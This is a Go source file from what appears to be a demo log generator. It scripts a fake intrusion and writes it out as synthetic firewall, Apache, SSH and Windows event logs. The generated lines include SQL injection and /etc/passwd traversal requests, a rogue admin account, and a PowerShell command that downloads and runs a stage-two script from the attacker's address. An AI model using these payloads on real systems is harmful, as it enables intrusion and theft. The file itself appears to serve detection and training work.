package demo

import (
	"fmt"
	"time"
)

// A story step: what happens at an offset from the story's start.
type storyStep struct {
	name   string
	offset time.Duration // at speed 1
	run    func(g *Generator, a attack, t time.Time, out *emitter)
}

// attack is one run of the story.
type attack struct {
	n      int
	ip     string // the attacker
	victim string // the web server's address
}

// Steps are the story: recon scan → web exploit → brute force → success
// → lateral movement → log clearing, two minutes from first to last at
// speed 1.
var story = []storyStep{
	{"recon scan", 0, func(g *Generator, a attack, t time.Time, out *emitter) {
		ports := []int{21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 993, 995, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200}
		for i, p := range ports {
			out.add(a.ip, asaLine(t.Add(time.Duration(i)*50*time.Millisecond), 4, "106023",
				fmt.Sprintf(`Deny tcp src outside:%s/%d dst inside:%s/%d by access-group "outside_in" [0x0, 0x0]`, a.ip, 50000+i, a.victim, p)))
		}
		nmap := "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
		out.add(a.ip, apacheLine(t, a.ip, "GET", "/", 200, 5120, nmap))
		out.add(a.ip, apacheLine(t, a.ip, "OPTIONS", "/", 200, 0, nmap))
	}},
	{"web exploit", 20 * time.Second, func(g *Generator, a attack, t time.Time, out *emitter) {
		ua := "sqlmap/1.7.12#stable (https://sqlmap.org)"
		out.add(a.ip, apacheLine(t, a.ip, "GET", "/cgi-bin/../../../../etc/passwd", 404, 209, "curl/8.5.0"))
		out.add(a.ip, apacheLine(t, a.ip, "GET", "/shop/item.php?id=1%27%20or%201=1--", 200, 18000, ua))
		out.add(a.ip, apacheLine(t, a.ip, "GET", "/shop/item.php?id=1+UNION+SELECT+username,password+FROM+users--", 200, 22000, ua))
	}},
	{"SSH brute force", 40 * time.Second, func(g *Generator, a attack, t time.Time, out *emitter) {
		for i := 0; i < 15; i++ {
			user := []string{"root", "admin", "deploy", "ubuntu", "oracle"}[i%5]
			out.add(a.ip, authLine(t.Add(time.Duration(i)*10*time.Millisecond), "web01", "sshd",
				fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, a.ip, 51000+i)))
		}
	}},
	{"successful login", 60 * time.Second, func(g *Generator, a attack, t time.Time, out *emitter) {
		out.add(a.ip, authLine(t, "web01", "sshd", fmt.Sprintf("Accepted password for deploy from %s port 51999 ssh2", a.ip)))
		out.add("", authLine(t, "web01", "sudo", "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"))
	}},
	{"lateral movement", 80 * time.Second, func(g *Generator, a attack, t time.Time, out *emitter) {
		sec := func(id int, d map[string]string) string {
			return winEvent(t, "DC01", "Security", "Microsoft-Windows-Security-Auditing", id, d)
		}
		out.add("", sec(4624, map[string]string{"TargetUserName": "deploy", "TargetDomainName": "CORP", "LogonType": "3", "IpAddress": a.victim, "WorkstationName": "web01"}))
		out.add("", winEvent(t, "DC01", "System", "Service Control Manager", 7045,
			map[string]string{"ServiceName": "PSEXESVC", "ImagePath": `%SystemRoot%\PSEXESVC.exe`, "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}))
		user := fmt.Sprintf("svc_update%d", a.n)
		out.add("", sec(4720, map[string]string{"TargetUserName": user, "TargetDomainName": "CORP", "SubjectUserName": "deploy"}))
		out.add("", sec(4732, map[string]string{"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "MemberName": "CN=" + user + ",CN=Users,DC=corp,DC=example", "SubjectUserName": "deploy"}))
		out.add("", winEvent(t, "DC01", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104,
			map[string]string{"ScriptBlockText": fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/stage2.ps1')", a.ip), "ScriptBlockId": "b7c1c8e2-5a0f-4b9b-9d7e-0c6f1f7f4a11"}))
	}},
	{"log clearing", 100 * time.Second, func(g *Generator, a attack, t time.Time, out *emitter) {
		out.add("", winEvent(t, "DC01", "Security", "Microsoft-Windows-Eventlog", 1102, map[string]string{"SubjectUserName": "deploy", "SubjectDomainName": "CORP"}))
		out.add("", winEvent(t, "DC01", "System", "Microsoft-Windows-Eventlog", 104, map[string]string{"SubjectUserName": "deploy", "Channel": "System"}))
	}},
}
